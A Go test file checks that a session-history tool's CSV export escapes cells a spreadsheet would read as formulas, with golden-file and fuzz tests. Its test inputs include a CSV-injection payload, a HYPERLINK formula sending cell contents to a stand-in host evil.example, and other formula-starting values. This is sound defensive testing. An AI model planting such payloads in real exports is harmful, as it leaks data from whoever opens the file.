package store

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/notch-web/notch-web/host"
	"github.com/notch-web/notch-web/internal/golden"
	"github.com/notch-web/notch-web/state"
)

// hostileCells are texts a spreadsheet would read as a formula (=, +, -,
// @, a leading tab or carriage return: OWASP's list), and one it would not.
var hostileCells = []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "=1+1", "+SUM(A1)", "@x", "-1", "\t=1", "\r=1", "plain"}

// Every text cell of the CSV export — the machine, the session, the agent,
// the project, the title, the outcomes, the tools — is written so that a
// spreadsheet reads it as text (docs/history.md): a cell a spreadsheet
// would read as a formula has a leading '. Before, only the title was.
func TestExportCSVHostileCells(t *testing.T) {
	now := day0.Add(time.Hour)
	s := open(t, &now, Options{})
	var evs []host.RecordedEvent
	for i, v := range hostileCells {
		d := time.Duration(i) * time.Minute
		evs = append(evs,
			host.RecordedEvent{Agent: v, Event: state.Event{Type: state.TypeSessionOpened, Session: v, Project: v, Cwd: "/src/" + v, Title: v, At: at(d)}},
			host.RecordedEvent{Agent: v, Event: state.Event{Type: state.TypeTurnStarted, Session: v, At: at(d)}},
			host.RecordedEvent{Agent: v, Event: state.Event{Type: state.TypeToolStarted, Session: v, Tool: v, At: at(d)}},
			host.RecordedEvent{Agent: v, Event: state.Event{Type: state.TypeTurnEnded, Session: v, Outcome: state.OutcomeCompleted, At: at(d + time.Second)}},
		)
	}
	s.RecordEvents(evs)
	flush(t, s)
	// Another machine's session (a hub's history), whose machine name and
	// outcome are hostile too.
	if err := s.Take(context.Background(), "=cmd", items(
		Event{Machine: "=cmd", Seq: 1, Agent: "@agent", Event: state.Event{Type: state.TypeSessionOpened, Session: "+s", Project: "-p", At: at(30 * time.Minute)}},
	), 1); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := s.Export(context.Background(), &b, time.Time{}, FormatCSV); err != nil {
		t.Fatal(err)
	}
	got := strings.ReplaceAll(b.String(), day0.UTC().Format("2006-01-02T15"), "DAY0")
	path := filepath.Join("testdata", "export-hostile.csv")
	golden.Check(t, path, path+".actual", []byte(got), *update)

	// Whatever the golden says, no cell of it begins a formula.
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if formula(cell) {
				t.Errorf("column %s: %q would be read as a formula", recs[0][i], cell)
			}
		}
	}
}

// formula reports whether a spreadsheet would read cell as a formula.
func formula(cell string) bool {
	return cell != "" && cell != "-" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// The export's cell escaping takes any text: what it writes is never read
// as a formula, and is the text itself or the text after one '.
func FuzzCSVSafe(f *testing.F) {
	for _, s := range append(hostileCells,
		"",                              // empty: nothing to escape
		"-",                             // the hub's own machine: a lone sign is no formula
		"'=1",                           // begins with ': text already, left as it is
		"=\x00",                         // a NUL after the sign
		"\u202e=1",                      // a bidi override first: not a formula character
		"１=1",                           // a full-width digit first
		"="+strings.Repeat("A1+", 1000), // long
	) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		out := csvSafe(v)
		if formula(out) {
			t.Fatalf("csvSafe(%q) = %q: a formula", v, out)
		}
		if out != v && out != "'"+v {
			t.Fatalf("csvSafe(%q) = %q: neither the text nor the text after '", v, out)
		}
		// Through the CSV writer and back, the cell is what csvSafe made.
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		w.Write([]string{out, "x"})
		w.Flush()
		rec, err := csv.NewReader(&b).Read()
		if err != nil || len(rec) != 2 || rec[0] != strings.ReplaceAll(out, "\r\n", "\n") {
			t.Fatalf("csvSafe(%q) = %q read back as %q, %v", v, out, rec, err)
		}
	})
}
